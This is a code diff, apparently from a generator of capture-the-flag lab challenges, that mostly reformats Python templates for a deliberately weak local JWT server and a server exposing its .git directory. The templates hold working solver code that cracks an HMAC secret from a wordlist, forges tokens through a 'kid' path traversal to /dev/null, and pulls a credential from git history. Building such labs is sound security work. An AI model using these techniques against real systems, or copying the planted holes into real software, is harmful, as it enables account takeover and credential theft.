@@ -25,7 +25,9 @@ with open("$flag_file") as _fh:
 os.remove("$flag_file")
 """
 
-_JWT_SERVER = Template(_FLAG_LOADER + """
+_JWT_SERVER = Template(
+    _FLAG_LOADER
+    + """
 import base64, hashlib, hmac, http.server, json, os, urllib.parse
 
 SECRET = $secret
@@ -92,7 +94,8 @@ class Handler(http.server.BaseHTTPRequestHandler):
 
 
 http.server.ThreadingHTTPServer(("127.0.0.1", $port), Handler).serve_forever()
-""")
+"""
+)
 
 _VERIFY = {
     # trusts the token's own algorithm field, including "none"
@@ -138,12 +141,14 @@ words = open("$wordlist").read().split()
 secret = next(w for w in words if hmac.compare_digest(
     hmac.new(w.encode(), (head + "." + body).encode(), hashlib.sha256).digest(), unb64(mac)))
 print("secret=" + secret)
-token = head + "." + claims + "." + b64(hmac.new(secret.encode(), (head + "." + claims).encode(), hashlib.sha256).digest())
+signature = hmac.new(secret.encode(), (head + "." + claims).encode(), hashlib.sha256).digest()
+token = head + "." + claims + "." + b64(signature)
 """,
     "kid_path": """
 forged_head = b64(json.dumps({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null"}).encode())
 print("weakness=kid_path")
-token = forged_head + "." + claims + "." + b64(hmac.new(b"", (forged_head + "." + claims).encode(), hashlib.sha256).digest())
+signature = hmac.new(b"", (forged_head + "." + claims).encode(), hashlib.sha256).digest()
+token = forged_head + "." + claims + "." + b64(signature)
 """,
 }
 
@@ -215,7 +220,9 @@ build_jwt = Templates(tuple(_jwt(weakness) for weakness in _VERIFY))
 
 # ---- misconfig-git: the site's .git directory is published; a credential survives in its history ----
 
-_GIT_SERVER = Template(_FLAG_LOADER + """
+_GIT_SERVER = Template(
+    _FLAG_LOADER
+    + """
 import functools, http.server
 
 TOKEN = "$token"
@@ -241,7 +248,8 @@ class Handler(http.server.SimpleHTTPRequestHandler):
 
 
 http.server.ThreadingHTTPServer(("127.0.0.1", $port), functools.partial(Handler, directory="$site")).serve_forever()
-""")
+"""
+)
 
 _GIT = "git -c user.name=deploy -c user.email=deploy@example.invalid -c init.defaultBranch=main"
 
@@ -259,8 +267,7 @@ _GIT_HISTORIES = {
         "git log -p --all",
     ),
     "annotated_tag": (
-        "{git} add -A && {git} commit -qm 'initial site'\n"
-        "{git} tag -a {branch} -m 'release; {var} = {token}'\n",
+        "{git} add -A && {git} commit -qm 'initial site'\n{git} tag -a {branch} -m 'release; {var} = {token}'\n",
         "git tag -n5 -l",
     ),
 }
@@ -299,7 +306,7 @@ subprocess.run(["git", "clone", "-q", "--mirror", "http://127.0.0.1:%s/.git" % p
 history = subprocess.run({reader.split()!r}, capture_output=True, text=True, cwd=repo).stdout
 token = re.search(r"{var} = (\\w+)", history).group(1)
 print("variable={var}")
-request = urllib.request.Request("http://127.0.0.1:%s/{values['api']}" % port, headers={{"{values['header']}": token}})
+request = urllib.request.Request("http://127.0.0.1:%s/{values["api"]}" % port, headers={{"{values["header"]}": token}})
 print(urllib.request.urlopen(request).read().decode())
 """
         return Parts(
